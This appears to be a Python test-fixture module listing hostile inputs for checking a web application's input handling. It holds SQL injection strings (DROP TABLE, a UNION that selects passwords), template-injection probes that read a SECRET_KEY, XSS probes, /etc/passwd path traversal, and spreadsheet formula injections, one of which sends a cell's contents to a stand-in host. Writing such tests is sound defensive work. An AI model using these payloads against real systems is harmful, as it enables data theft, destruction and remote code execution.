"""Words that would do harm wherever they are taken for more than words."""

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE children_child; --",
    "1) UNION SELECT password FROM people_user --",
    "' || (SELECT pg_sleep(30)) || '",
    "\\'; SELECT 1 --",
    "%' AND 1=cast((SELECT username FROM people_user LIMIT 1) AS int) --",
    "$$;SELECT 1;$$",
    "{1,2}",
)
TEMPLATES = (
    "{{ 1234*4321 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${1234*4321}",
    "#{1234*4321}",
    "<%= 1234*4321 %>",
    "%(password)s",
    "{0.__class__.__mro__}",
)
SPELT_OUT = "5332114"  # 1234 * 4321
ODD = (
    "\x00", "a\x00b", "\x1b[31m", "\ud800", "\ufffe", "\u202e", "‮", "%", "_", "\\", "'", '"', "​",
    "-1", "0", "1e400", "NaN", "99999999999999999999", "١٢٣", "²", "null", "None", "[]", "{}",
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "a" * 5_000, "😀" * 50, "̀" * 200,
)  # fmt: skip
SCRIPTS = (
    '"><xssprobe onload=alert(1)>',
    "'><xssprobe>",
    "<xssprobe>",
    "</title><xssprobe>",
    "javascript:alert(1)",
    '" autofocus onfocus="alert(1)',
    "{{constructor}}<xssprobe>",
    "&lt;xssprobe&gt;<xssprobe>",
)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"a")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
)
